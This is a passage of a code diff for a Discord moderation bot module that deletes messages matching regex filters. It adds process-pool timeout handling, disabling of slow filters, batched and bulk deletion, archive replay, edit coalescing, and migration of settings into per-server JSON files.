+        replaced wait for another slot and are run once more on the new pool; their checks are only skipped if that
+        fails too.
+        """
+        num_checks = sum(len(jobs) for jobs in job_lists)
+
+        for attempt in range(2):
+            shared = await self.scheduler.acquire(server_id, num_checks)
+            executor = self.executor_for(server_id)
+
+            try:
+                future = self.bot.loop.run_in_executor(executor, partial(task, limit=MATCH_TIME_LIMIT))
+                return await asyncio.wait_for(future, EXECUTOR_HARD_TIMEOUT)
+            except asyncio.TimeoutError:
+                log.error('Executor call with %i checks for server %s took over %gs, replacing the pool.'
+                          % (num_checks, server_id, EXECUTOR_HARD_TIMEOUT))
+                self.reset_executor(executor)
+                marker = {'exception': MatchTimeout('executor call timed out'), 'timeout': True}
+                return [[marker.copy() for _ in jobs] for jobs in job_lists]
+            except BrokenProcessPool:
+                if attempt:
+                    log.warning('Executor pool broke again while %i checks for server %s were pending, skipping them.'
+                                % (num_checks, server_id))
+                    return [[] for _ in job_lists]
+
+                # A no-op if the pool was already replaced, otherwise a worker died on its own
+                self.reset_executor(executor)
+            finally:
+                self.scheduler.release(server_id, shared)
+
+    def executor_for(self, server_id: str):
+        return self.pools.get(server_id) or self.executor
+
+    def warm_executor(self, executor=None):
+        """
+        Starts the worker processes ahead of the first message
+        """
+        executor = executor or self.executor
+
+        for _ in range(pool_size(executor)):
+            executor.submit(warm_worker)
+
+    def reset_executor(self, executor=None):
+        """
+        Kills the worker processes of the given (or shared) executor and replaces it
+        """
+        old = executor or self.executor
+
+        if old is self.executor:
+            self.executor = new = ExecutorClass()
+        else:
+            server_id = next((k for k, v in self.pools.items() if v is old), None)
+
+            if server_id is None:  # already replaced by someone else
+                return
+
+            self.pools[server_id] = new = ExecutorClass(max_workers=pool_size(old))
+
+        for process in list((getattr(old, '_processes', None) or {}).values()):
+            process.terminate()
+
+        old.shutdown(wait=False)
+        self.warm_executor(new)
+
+    def configure_scheduler(self):
+        """
+        Applies the server weights and dedicated pools saved in misc_data, starting or stopping pools as needed
+        """
+        conf = self.misc_data.get('_scheduler', {})
+        dedicated = conf.get('dedicated', {})
+
+        for server_id in list(self.pools):
+            if pool_size(self.pools[server_id]) != dedicated.get(server_id):
+                self.pools.pop(server_id).shutdown(wait=False)
+
+        for server_id, workers in dedicated.items():
+            if server_id not in self.pools:
+                self.pools[server_id] = pool = ExecutorClass(max_workers=workers)
+                self.warm_executor(pool)
+
+        self.scheduler.weights = {k: float(v) for k, v in conf.get('weights', {}).items()}
+        self.scheduler.dedicated = set(self.pools)
+
+    def report_timeout(self, config: ServerConfig, items: Sequence[Tuple['Filter', str, str]]):
+        """
+        Schedules a recheck of (filter, spec kind, content) items that timed out together
+        """
+        self.bot.loop.create_task(self.diagnose_timeouts(config, items))
+
+    async def diagnose_timeouts(self, config: ServerConfig, items: Sequence[Tuple['Filter', str, str]]):
+        """
+        Reruns each filter that was part of a timed out check on its own, and disables it if it times out again
+        """
+        for _filter, kind, content in items:
+            if _filter in self._diagnosing or not _filter.enabled:
+                continue
+
+            self._diagnosing.add(_filter)
+            filter_set = config.filter_set
+
+            try:
+                job = (filter_set.spec_id(_filter.spec(kind)), content, False)
+                ret = await self.run_checks(config.server_id, filter_set, [job])
+
+                if ret and timed_out(ret[0]):
+                    self.disable_slow_filter(config, _filter)
+            finally:
+                self._diagnosing.discard(_filter)
+
+    async def batch_check(self, settings: ServerConfig, message: Message, list_cache: dict,
+                          sequence: Optional[List[Message]] = None) -> Tuple[bool, Optional[Sequence[Message]]]:
+        """
+        Queues a message, and the multi-message history it ends, to be checked with others from the same server
+
+        Returns True if the message was deleted, and what to delete from the history as check_sequence would (None
+        if it wasn't checked). The batch is flushed after the server's batch window, or as soon as it holds
+        BATCH_MAX_MESSAGES messages.
+        """
+        server_id = settings.server_id
+        batch = self._batches.get(server_id)
+
+        if batch is None:
+            self._batches[server_id] = batch = MessageBatch(settings)
+            batch.handle = self.bot.loop.call_later(settings.batch_window / 1000, self._flush_batch, server_id)
+
+        future = self.bot.loop.create_future()
+        batch.add(message, list_cache, sequence, future)
+
+        if len(batch) >= BATCH_MAX_MESSAGES:
+            self._flush_batch(server_id)
+
+        return await future
+
+    def _flush_batch(self, server_id: str):
+        batch = self._batches.pop(server_id, None)
+
+        if batch is None:
+            return
+
+        batch.handle.cancel()
+        self.bot.loop.create_task(self.evaluate_batch(batch))
+
+    async def evaluate_batch(self, batch: MessageBatch):
+        """
+        Checks a batch in one executor call, then deletes the offending messages with one bulk call per channel
+
+        Multi-message results are left to each message's handle_seq.
+        """
+        try:
+            verdicts, seq_results = await batch.settings.check_batch(batch.messages, batch.list_caches,
+                                                                     batch.sequences)
+        except Exception as e:
+            for future in batch.futures:
+                if not future.done():
+                    future.set_exception(e)
+            return
+
+        by_channel = OrderedDict()
+
+        for message, verdict in zip(batch.messages, verdicts):
+            if verdict:
+                by_channel.setdefault(message.channel.id, []).append(message)
+
+        for to_delete in by_channel.values():
+            try:
+                await self.delete_bulk(to_delete)
+            except Exception:
+                log.exception('Error deleting a batch of %i messages' % len(to_delete))
+
+        for future, verdict, to_delete in zip(batch.futures, verdicts, seq_results):
+            if not future.done():
+                future.set_result((verdict, to_delete))
+
+    async def delete_bulk(self, messages: Sequence[Message]):
+        """
+        Deletes messages from a single channel, 100 at a time
+
+        Bulk deletion is refused for messages older than two weeks, so those are retried one at a time.
+        """
+        for i in range(0, len(messages), 100):
+            chunk = messages[i:i + 100]
+
+            if len(chunk) == 1:
+                await self.bot.delete_message(chunk[0])
+                continue
+
+            try:
+                await self.bot.delete_messages(chunk)
+            except discord.HTTPException:
+                for message in chunk:
+                    try:
+                        await self.bot.delete_message(message)
+                    except discord.NotFound:
+                        pass
+
+    async def replay(self, config: ServerConfig, reader: ArchiveReader) -> dict:
+        """
+        Runs archived messages through config's filters, REPLAY_CHUNK_SIZE messages per executor call
+
+        The archive is read and parsed in the default executor, a chunk at a time. Multi-message filters see each
+        channel/author history as on_message would build it. Channel, role and privilege settings are ignored,
+        since archives don't record them.
+        """
+        ret = {'messages': 0, 'hits': 0, 'hits_deleted': 0, 'hits_kept': 0, 'archive_deleted': 0, 'samples': []}
+        histories = defaultdict(lambda: BoundedOrderedDict(maxlen=MSG_HISTORY_MAX_NUM))
+        has_multi = any(f.multi_msg for f in config.order)
+        hits = OrderedDict()  # a multi-message filter can catch a message again after a cascade
+        t0 = time.perf_counter()
+
+        while True:
+            chunk = await self.bot.loop.run_in_executor(None, reader.next_chunk)
+
+            if not chunk:
+                break
+
+            ret['messages'] += len(chunk)
+            verdicts = await config.check_messages(chunk, meta=False)
+
+            for record, verdict in zip(chunk, verdicts):
+                if verdict:
+                    hits[record.id] = record
+
+                if has_multi:
+                    history = histories[(record.channel.id, record.author.id)]
+
+                    for old in list(history.values()):  # same cutoff as MessageHistory.expire, on archive time
+                        if record.timestamp - old.timestamp > timedelta(seconds=MSG_HISTORY_MAX_TIME):
+                            history.popitem(last=False)
+
+                    if not verdict:
+                        history[record.id] = record
+
+                    while history:
+                        to_delete = await config.check_sequence(list(history.values()), meta=False)
+
+                        if not to_delete:
+                            break
+
+                        for deleted in to_delete:
+                            hits[deleted.id] = deleted
+                            history.pop(deleted.id, None)
+
+        # Messages can be deleted further on in their file, so their flags are only final after this
+        await self.bot.loop.run_in_executor(None, reader.finish)
+
+        for record in hits.values():
+            if record.deleted:
+                ret['hits_deleted'] += 1
+            elif record.deleted is False:
+                ret['hits_kept'] += 1
+
+                if len(ret['samples']) < REPLAY_SAMPLES:
+                    ret['samples'].append(record)
+
+        ret['hits'] = len(hits)
+        ret['archive_deleted'] = reader.deleted
+        ret['missed_deleted'] = ret['archive_deleted'] - ret['hits_deleted']
+        ret['elapsed'] = time.perf_counter() - t0
+        return ret
+
+    def disable_slow_filter(self, config: ServerConfig, _filter: 'Filter'):
+        reason = 'exceeded the %gs time limit on %s UTC' % (MATCH_TIME_LIMIT,
+                                                            datetime.utcnow().strftime('%Y-%m-%d %H:%M'))
+        log.warning('Disabling filter %s: %s' % (_filter.name, reason))
+
+        _filter.enabled = False
+        _filter.disabled_reason = 'Pattern ' + reason
+        config.update_order()
+        self.save(config.server_id)
+
     # Listeners
 
     async def on_message(self, message, *, _edit=False):
@@ -3155,28 +5623,84 @@ class ReCensor:
             return
 
         settings = self.settings[server.id]
-        message_deque = self._message_cache[cache_key]
-        self.cleanup_deque(message_deque)
+        message_deque = self._message_cache.get(cache_key)
+        self._edit_hashes[message.id] = content_hash(message)
 
         # Only set if message is new or when updating existing
         if (message.id in message_deque) == _edit:
-            message_deque[message.id] = message
+            message_deque[message.id] = HistoryRecord(message)
+            self._message_cache.update(cache_key)
 
         if not message.channel.permissions_for(server.me).manage_messages:
             return
 
         self._deleting.add(cache_key)
         list_cache = {}
+        to_delete = None
+
+        if settings.batch_window:
+            sequence = list(message_deque.values()) if settings.filter_set.sequence else None
+            deleted, to_delete = await self.batch_check(settings, message, list_cache, sequence)
 
-        if await settings.check_message(message, list_cache):
+            if deleted:
+                message_deque.pop(message.id, None)
+        elif await settings.check_message(message, list_cache):
             await self.bot.delete_message(message)
             message_deque.pop(message.id, None)  # deleting a message may make a gap
 
-        await self.handle_seq(self.settings[server.id], message_deque, list_cache)
+        await self.handle_seq(self.settings[server.id], message_deque, list_cache, to_delete)
+        self._message_cache.update(cache_key)
         self._deleting.discard(cache_key)
 
+    async def on_channel_delete(self, channel):
+        if channel.server and channel.server.id in self.settings:
+            self.settings[channel.server.id].invalidate_meta()
+
+    async def on_server_role_delete(self, role):
+        if role.server.id in self.settings:
+            self.settings[role.server.id].invalidate_meta()
+
     async def on_message_edit(self, old_message, new_message):
-        await self.on_message(new_message, _edit=True)
+        """
+        Checks edited messages again, unless nothing that filters look at has changed (e.g. an embed was added)
+
+        The first edit is checked right away. Any edits to the same message within EDIT_COALESCE_WINDOW of a check
+        are held back, and only the last of them is checked once the window is over.
+        """
+        settings = new_message.server and self.settings.get(new_message.server.id)
+
+        if not settings:
+            return
+
+        stats = settings.edit_stats
+        stats['received'] += 1
+        message_id = new_message.id
+
+        if self._edit_hashes.get(message_id) == content_hash(new_message):
+            stats['unchanged'] += 1
+            return
+        elif message_id in self._edit_waiting:
+            if self._edit_waiting[message_id] is not None:
+                stats['coalesced'] += 1
+
+            self._edit_waiting[message_id] = new_message
+            return
+
+        self._edit_waiting[message_id] = None
+        message = new_message
+
+        try:
+            while message:
+                stats['evaluated'] += 1
+                await self.on_message(message, _edit=True)
+                await asyncio.sleep(EDIT_COALESCE_WINDOW)
+                message, self._edit_waiting[message_id] = self._edit_waiting[message_id], None
+
+                if message and self._edit_hashes.get(message_id) == content_hash(message):
+                    stats['unchanged'] += 1
+                    message = None
+        finally:
+            del self._edit_waiting[message_id]
 
     async def on_message_delete(self, message):
         server = message.server
@@ -3187,34 +5711,33 @@ class ReCensor:
                 or cache_key not in self._message_cache or cache_key in self._deleting:
             return
 
-        message_deque = self._message_cache[cache_key]
-        self.cleanup_deque(message_deque)
+        message_deque = self._message_cache.get(cache_key)
         message_deque.pop(message.id, None)
+        self._message_cache.update(cache_key)
 
         if not message.channel.permissions_for(server.me).manage_messages:
             return
 
         self._deleting.add(cache_key)
         await self.handle_seq(self.settings[server.id], message_deque)
+        self._message_cache.update(cache_key)
         self._deleting.discard(cache_key)
 
-    @staticmethod
-    def cleanup_deque(message_deque: BoundedOrderedDict):
-        cutoff = datetime.utcnow() - timedelta(seconds=MSG_HISTORY_MAX_TIME)
-
-        for message_obj in list(message_deque.values()):
-            if message_obj.timestamp > cutoff:
-                break
-            else:
-                message_deque.popitem(last=False)  # popleft
-
     async def handle_seq(self, settings: ServerConfig, message_deque: BoundedOrderedDict,
-                         list_cache: Optional[dict] = None):
+                         list_cache: Optional[dict] = None, to_delete: Optional[Sequence[Message]] = None):
+        """
+        Deletes what multi-message filters catch in a history, checking it again after each deletion
+
+        to_delete is the result of a check of the history that was already made, e.g. in a message batch.
+        """
         all_to_delete = []
 
         # Try until the deque is empty or we're out of stuff to delete (cascades)
         while message_deque:
-            to_delete = await settings.check_sequence(list(message_deque.values()), list_cache)
+            if to_delete is None:
+                to_delete = await settings.check_sequence(list(message_deque.values()), list_cache)
+            else:  # checked in a batch, maybe along with a later message that already deleted some of these
+                to_delete = [m for m in to_delete if m.id in message_deque]
 
             if not to_delete:
                 break
@@ -3224,6 +5747,8 @@ class ReCensor:
             for deleted_message in to_delete:
                 message_deque.pop(deleted_message.id, None)
 
+            to_delete = None
+
         if not all_to_delete:
             return
         elif len(all_to_delete) == 1:
@@ -3237,65 +5762,100 @@ class ReCensor:
 
 
 def check_folder():
-    if not os.path.exists(DATA_PATH):
-        log.debug('Creating folder: %s' % DATA_PATH)
-        os.makedirs(DATA_PATH)
+    for path in (DATA_PATH, SERVERS_PATH):
+        if not os.path.exists(path):
+            log.debug('Creating folder: %s' % path)
+            os.makedirs(path)
 
 
 def check_file():
     if dataIO.is_valid_json(JSON_PATH) is False:
         log.debug('Creating json: %s' % JSON_PATH)
-        dataIO.save_json(JSON_PATH, {'_schema_version': 2})
+        dataIO.save_json(JSON_PATH, {'_schema_version': 3})
 
 
-def migrate_data(data):
-    log.debug('Upgrading schema...')
-    newdata = {'_schema_version': 2, '_v1_backup': data}
-    for sid, sdata in data.items():
-        i = 0
+def server_path(server_id: str) -> str:
+    return '%s%s.json' % (SERVERS_PATH, server_id)
 
-        newdata[sid] = {
-            'priv_exempt' : not sdata.get('no_exemptions', False),
-            'filters'     : {}
-        }
 
-        for cid, cdata in sdata.items():
-            if type(cdata) is not dict:
-                continue
+def save_json_files(files: Iterable[Tuple[str, dict]]):
+    for path, data in files:
+        dataIO.save_json(path, data)
 
-            for pattern, mode in cdata.items():
-                name = 'migrated_%i' % i
-                mode = (mode == 'excl') if mode in {'incl', 'excl'} else False
-                enabled = (mode != 'none')
-                i += 1
 
-                inline_flags = re.match(r"^\(\?([a-z]+)\)(.*)", pattern, re.IGNORECASE)
+def migrate_storage(data: dict) -> dict:
+    """
+    Moves each server's settings out of regexen.json and into its own file, upgrading v1 settings on the way
 
-                if inline_flags:
-                    flags, pattern = inline_flags.groups()
-                else:
-                    flags = ''
+    Servers are converted and written one at a time and dropped from data as they go, so the old and new forms of
+    every server are never in memory at once. regexen.json is rewritten last, so an interrupted migration simply
+    starts over on the next load. Returns the new contents of regexen.json.
+    """
+    version = data.get('_schema_version', 1)
+    log.debug('Upgrading schema from version %i...' % version)
 
-                if pattern.startswith('.*'):
-                    pattern = pattern[2:]
-                    position = POSITION.ANYWHERE.value
-                else:
-                    position = POSITION.START.value
-
-                newdata[sid]['filters'][name] = {
-                    'pattern'  : pattern,
-                    'mode'     : mode,
-                    'enabled'  : enabled,
-                    'position' : position,
-                    'flags'    : ''.join(sorted(set(flags.upper()).intersection(FLAGS_DESC)))
-                }
+    if not os.path.exists(SERVERS_PATH):
+        os.makedirs(SERVERS_PATH)
+
+    if version < 2:
+        shutil.copyfile(JSON_PATH, V1_BACKUP_PATH)
+
+    server_ids = [k for k, v in data.items() if not k.startswith('_') and type(v) is dict and k.isnumeric()]
+
+    for sid in server_ids:
+        sdata = data.pop(sid)
+        dataIO.save_json(server_path(sid), migrate_server_v1(sdata) if version < 2 else sdata)
 
-                if cid != 'all':
-                    newdata[sid]['filters'][name]['channels_list'] = {
-                        'enabled' : True,
-                        'mode'    : True,
-                        'items'   : [cid]
-                    }
+    data['_schema_version'] = 3
+    dataIO.save_json(JSON_PATH, data)
+    return data
+
+
+def migrate_server_v1(sdata: dict) -> dict:
+    i = 0
+
+    newdata = {
+        'priv_exempt' : not sdata.get('no_exemptions', False),
+        'filters'     : {}
+    }
+
+    for cid, cdata in sdata.items():
+        if type(cdata) is not dict:
+            continue
+
+        for pattern, mode in cdata.items():
+            name = 'migrated_%i' % i
+            mode = (mode == 'excl') if mode in {'incl', 'excl'} else False
+            enabled = (mode != 'none')
+            i += 1
+
+            inline_flags = re.match(r"^\(\?([a-z]+)\)(.*)", pattern, re.IGNORECASE)
+
+            if inline_flags:
+                flags, pattern = inline_flags.groups()
+            else:
+                flags = ''
+
+            if pattern.startswith('.*'):
+                pattern = pattern[2:]
+                position = POSITION.ANYWHERE.value
+            else:
+                position = POSITION.START.value
+
+            newdata['filters'][name] = {
+                'pattern'  : pattern,
+                'mode'     : mode,
+                'enabled'  : enabled,
+                'position' : position,
+                'flags'    : ''.join(sorted(set(flags.upper()).intersection(FLAGS_DESC)))
+            }
+
+            if cid != 'all':
+                newdata['filters'][name]['channels_list'] = {
+                    'enabled' : True,
+                    'mode'    : True,
+                    'items'   : [cid]
+                }
 
     return newdata
 